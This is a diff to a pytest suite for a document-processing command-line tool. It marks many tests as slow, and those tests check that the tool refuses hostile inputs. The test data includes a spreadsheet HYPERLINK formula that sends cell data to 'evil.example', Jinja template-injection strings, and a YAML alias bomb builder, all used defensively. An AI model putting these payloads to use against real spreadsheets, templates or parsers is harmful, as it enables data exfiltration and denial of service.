@@ -83,6 +83,7 @@ def _write(folder: Path, name: str, data: bytes) -> Path:
 # -- pepdocs extract / translate on Word input ----------------------------------------------
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", corpus.REFUSED_DOCX, ids=lambda item: item.name)
 def test_extract_refuses_a_broken_or_hostile_word_file_in_one_line(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -93,6 +94,7 @@ def test_extract_refuses_a_broken_or_hostile_word_file_in_one_line(
     _assert_refused(run, path, item.problem, out)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", corpus.REFUSED_XLSX, ids=lambda item: item.name)
 def test_extract_refuses_a_broken_or_hostile_workbook_in_one_line(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -103,6 +105,7 @@ def test_extract_refuses_a_broken_or_hostile_workbook_in_one_line(
     _assert_refused(run, path, item.problem, out)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", corpus.REFUSED_PDF, ids=lambda item: item.name)
 def test_extract_refuses_a_broken_pdf_in_one_line(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -113,6 +116,7 @@ def test_extract_refuses_a_broken_pdf_in_one_line(
     _assert_refused(run, path, item.problem, out)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", corpus.LOOPING_PDF, ids=lambda item: item.name)
 def test_extract_ends_a_pdf_built_to_loop_within_seconds(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -132,6 +136,7 @@ def test_extract_ends_a_pdf_built_to_loop_within_seconds(
 _DETECTION_PROBLEMS = {"pdf-named-docx": "", "text-named-docx": "not a"}
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", corpus.REFUSED_DOCX, ids=lambda item: item.name)
 def test_extract_without_an_authority_refuses_in_one_line_too(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -142,6 +147,7 @@ def test_extract_without_an_authority_refuses_in_one_line_too(
     _assert_refused(run, path, _DETECTION_PROBLEMS.get(item.name, item.problem), out)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     "item",
     [item for item in corpus.REFUSED_DOCX if item.name in {"zip-bomb", "xml-bomb", "truncated"}],
@@ -159,6 +165,7 @@ def test_translate_refuses_in_one_line_and_writes_nothing(
     _assert_refused(run, path, item.problem, out)
 
 
+@pytest.mark.slow
 def test_a_twenty_thousand_row_table_is_extracted_within_seconds(
     run_cli: Callable[..., Run], tmp_path: Path
 ) -> None:
@@ -284,6 +291,7 @@ def test_a_command_reading_pep_json_refuses_a_broken_file_in_one_line(
         assert run.err_lines == naming
 
 
+@pytest.mark.slow
 def test_validate_refuses_a_named_pipe_without_blocking(tmp_path: Path) -> None:
     path = tmp_path / "pep.json"
     os.mkfifo(path)
@@ -303,6 +311,7 @@ def test_validate_refuses_a_named_pipe_without_blocking(tmp_path: Path) -> None:
 # -- the real process ----------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_the_installed_command_prints_one_line_and_no_traceback(tmp_path: Path) -> None:
     path = _write(tmp_path, "bomb.docx", corpus.xml_bomb())
     started = time.monotonic()
@@ -416,6 +425,7 @@ def _jinja_template(folder: Path, name: str, text: str) -> Path:
     return path
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     "source",
     ["{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}"],
@@ -442,6 +452,7 @@ def _utf16_template(folder: Path) -> Path:
     return template
 
 
+@pytest.mark.slow
 def test_fill_refuses_a_template_whose_xml_is_not_utf8(
     run_cli: Callable[..., Run], tmp_path: Path
 ) -> None:
@@ -452,6 +463,7 @@ def test_fill_refuses_a_template_whose_xml_is_not_utf8(
     _assert_refused(run, template, "part word/document.xml is not UTF-8 text", out)
 
 
+@pytest.mark.slow
 def test_extract_refuses_a_template_whose_xml_is_not_utf8(
     run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
 ) -> None:
@@ -462,6 +474,7 @@ def test_extract_refuses_a_template_whose_xml_is_not_utf8(
     _assert_refused(run, template, "part word/document.xml is not UTF-8 text", out)
 
 
+@pytest.mark.slow
 def test_a_mapping_whose_template_is_missing_is_one_line(
     run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
 ) -> None:
@@ -496,6 +509,7 @@ def test_an_invalid_mapping_file_is_one_line_with_its_line(
     _assert_refused(run, mapping, problem, out)
 
 
+@pytest.mark.slow
 def test_a_yaml_alias_bomb_in_a_mapping_is_refused_within_seconds(tmp_path: Path) -> None:
     items = ['&a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
     items += [f"&a{n} [" + ",".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 9)]
@@ -538,6 +552,7 @@ def _roster_text() -> str:
     return text.encode("cp1252", errors="replace").decode("cp1252")
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("encoding", "encode"),
     [
@@ -578,6 +593,7 @@ ROSTER_CORPUS = [
 ]
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("name", "build", "problem"), ROSTER_CORPUS, ids=[item[0] for item in ROSTER_CORPUS]
 )
@@ -594,6 +610,7 @@ def test_batch_refuses_a_broken_roster_in_one_line_and_makes_nothing(
     _assert_refused(run, roster, problem, out)
 
 
+@pytest.mark.slow
 def test_batch_refuses_a_named_pipe_roster_without_blocking(tmp_path: Path) -> None:
     roster = tmp_path / "roster.csv"
     os.mkfifo(roster)
@@ -630,6 +647,7 @@ def _convert_folder(folder: Path, good: Path | None) -> Path:
     return source
 
 
+@pytest.mark.slow
 def test_convert_lists_every_broken_file_in_one_line_and_converts_the_rest(
     run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
 ) -> None:
@@ -649,6 +667,7 @@ def test_convert_lists_every_broken_file_in_one_line_and_converts_the_rest(
     assert sorted(path.name for path in (out / "peps").iterdir()) == ["good.json"]
 
 
+@pytest.mark.slow
 def test_convert_redact_leaves_no_personal_value_in_any_output(
     run_cli: Callable[..., Run], tmp_path: Path, filled_form: Path
 ) -> None:
@@ -666,6 +685,7 @@ def test_convert_redact_leaves_no_personal_value_in_any_output(
     assert _leaks(run.err) == []
 
 
+@pytest.mark.slow
 def test_convert_of_only_broken_files_exits_non_zero(
     run_cli: Callable[..., Run], tmp_path: Path
 ) -> None:
@@ -691,6 +711,7 @@ _BUNDLE_REFUSED_PDF = [
 _BUNDLE_PROBLEMS = {"pdf-page-tree-loop": "not a readable PDF", "pdf-field-parent-loop": ""}
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("item", _BUNDLE_REFUSED_PDF, ids=lambda item: item.name)
 def test_bundle_refuses_a_broken_pdf_attachment_in_one_line(
     run_cli: Callable[..., Run], tmp_path: Path, item: corpus.Item
@@ -707,6 +728,7 @@ _BUNDLE_DOCX = [item for item in corpus.REFUSED_DOCX if item.name != "pdf-named-
 _BUNDLE_DOCX_PROBLEMS = {"text-named-docx": "is not a PDF, Word or Excel document"}
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("item", "suffix"),
     [(item, "docx") for item in _BUNDLE_DOCX]
@@ -738,6 +760,7 @@ def test_bundle_refuses_a_hostile_office_attachment_before_libreoffice(
 _FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
+@pytest.mark.slow
 def test_a_formula_typed_in_a_pep_is_text_in_a_filled_workbook(
     run_cli: Callable[..., Run], tmp_path: Path
 ) -> None:
@@ -760,6 +783,7 @@ def test_a_formula_typed_in_a_pep_is_text_in_a_filled_workbook(
     assert all(cell.data_type == "s" for cell in holding)
 
 
+@pytest.mark.slow
 def test_a_formula_typed_in_a_form_is_neutralised_in_convert_tables(
     run_cli: Callable[..., Run], tmp_path: Path
 ) -> None:
@@ -798,6 +822,7 @@ print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, worst)
 """
 
 
+@pytest.mark.slow
 def test_the_whole_corpus_through_extract_stays_within_memory_and_time(tmp_path: Path) -> None:
     """Every corpus file through ``pepdocs extract`` in one process: its peak memory (the
     interpreter and every library included) stays far below what a bomb would take."""
